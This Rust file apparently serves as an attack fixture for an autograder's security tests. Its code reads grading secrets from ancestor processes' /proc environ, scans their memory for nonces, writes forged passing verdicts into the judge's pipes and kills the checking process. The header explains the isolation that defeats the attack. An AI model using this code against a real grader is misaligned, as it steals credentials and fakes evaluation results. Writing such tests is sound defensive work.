//! Attack: the judge's secret read by the runner, from its ancestors.
//!
//! Learner code runs in a runner that the check's process starts, so the
//! processes that judge are its ancestors. During a call, `new_token` walks up
//! the ancestors that belong to the scratch course (the check's process, the
//! harness, cargo). For each it reads `/proc/PID/environ` (a grading secret,
//! `REDIS_URL`) and, through `/proc/PID/mem`, its writable memory, for
//! anything shaped like the harness's nonce; it writes a passing verdict for
//! each candidate into every pipe the ancestor holds (opened through
//! `/proc/PID/fd/N`), then kills the nearest one, the check's process, so that
//! its own verdict never comes, and exits with 0.
//!
//! A process of the same user may do every one of these steps where no
//! sandbox stands between it and the judge (on a kernel without Yama's
//! ptrace restriction, reading another process's memory included). A sound
//! grader runs the runner where no process of the judge can be seen, and
//! where there is no sandbox keeps its processes undumpable, which shuts
//! `/proc/PID/mem`, `fd` and `environ` to every process without
//! `CAP_SYS_PTRACE` (`grader/src/harness/private.rs`): this attacker's checks
//! fail.

#[path = "atk_kit.rs"]
mod kit;

pub fn new_token() -> String {
    let me = std::process::id() as i32;
    let judges: Vec<i32> = kit::ancestors(me)
        .into_iter()
        .filter(|&pid| kit::of_the_course(pid))
        .collect();
    let mut nonces = std::collections::BTreeSet::new();
    let mut secrets = 0;
    for &pid in &judges {
        nonces.extend(kit::nonces_in_memory(&pid.to_string()));
        let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
        secrets += environ
            .split(|b| *b == 0)
            .filter(|v| v.starts_with(b"REDIS_URL=") || v.starts_with(b"GRADER_HARNESS_"))
            .count();
    }
    if !judges.is_empty() {
        let nonces: Vec<String> = nonces.into_iter().collect();
        let pipes: usize = judges
            .iter()
            .map(|&pid| kit::send_passing_verdicts_into(pid, &nonces))
            .sum();
        kit::evidence(
            "judge-memory",
            &format!(
                "{} processes of the judge seen, {} candidate nonces in their memory, {secrets} \
                 variables of theirs read, verdicts written into {pipes} of their pipes",
                judges.len(),
                nonces.len()
            ),
        );
        // SAFETY: a signal to the check's process, which belongs to the scratch course.
        unsafe { kit::kill(judges[0], kit::SIGKILL) };
        std::process::exit(0);
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
